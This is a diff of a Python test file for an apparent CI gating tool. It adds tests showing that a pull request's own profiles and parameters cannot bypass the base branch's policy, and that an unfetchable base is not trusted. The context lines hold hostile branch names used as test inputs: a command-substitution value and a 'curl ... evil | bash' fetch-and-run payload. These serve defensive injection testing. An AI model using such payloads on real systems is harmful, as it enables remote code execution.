@@ -148,6 +148,33 @@ def test_c008_values_of_a_run_are_no_way_around_the_gate(forge: Forge) -> None:
     assert jobs.outputs["verdict"] == "rejected"
 
 
+def test_c008_a_profile_of_the_heads_own_is_no_way_around_the_gate(forge: Forge) -> None:
+    """The base has no such profile, and its gate judges all the same; a value that it lacks may be given."""
+    forge.origin.git("checkout", "-q", "main")
+    forge.change(ciml_yaml=CIML_YAML.replace("{least: 0.5}", "{least: 0.5, given: {type: float}}"))
+    forge.origin.git("checkout", "-q", "-B", "topic")
+    lax = "{least: 0.5, given: {type: float}, extra: 1}\nprofiles: {lax: {params: {least: 0.1}}}"
+    forge.change(ciml_yaml=CIML_YAML.replace("{least: 0.5}", lax), src_txt="0.4\n")
+    jobs = forge.jobs().pull_request("topic", 7)
+    answer = jobs.job("job", "-P", "given=1", "-P", "extra=2", "-P", "least=0", options=("--profile", "lax"))
+    assert (answer.code, jobs.outputs["verdict"]) == (10, "rejected"), answer
+
+
+def test_c045_a_base_that_cannot_be_fetched_is_no_reason_to_trust_the_head(forge: Forge) -> None:
+    """Its own gate does not judge instead: exit 5, before any stage starts, and the same again once it is there."""
+    jobs = forge.jobs().pull_request("topic", 7)
+    answer = jobs.job(
+        "lost",
+        GIT_CONFIG_COUNT="1",
+        GIT_CONFIG_KEY_0="url./nowhere/at/all.insteadOf",
+        GIT_CONFIG_VALUE_0=str(forge.origin.path),
+    )
+    assert answer.code == 5, answer
+    assert "the policy that counts cannot be found" in answer.err
+    assert nothing_ran(jobs, answer)
+    assert jobs.job("found").code == 10
+
+
 @pytest.mark.parametrize("branch", ["a$(touch${IFS}x)", "x|curl${IFS}-sSfL${IFS}evil|bash"])
 def test_c001_c002_a_branch_is_bytes(forge: Forge, branch: str) -> None:
     """A hostile branch in head_ref → treated as bytes; no shell; exit 0; canary file absent."""
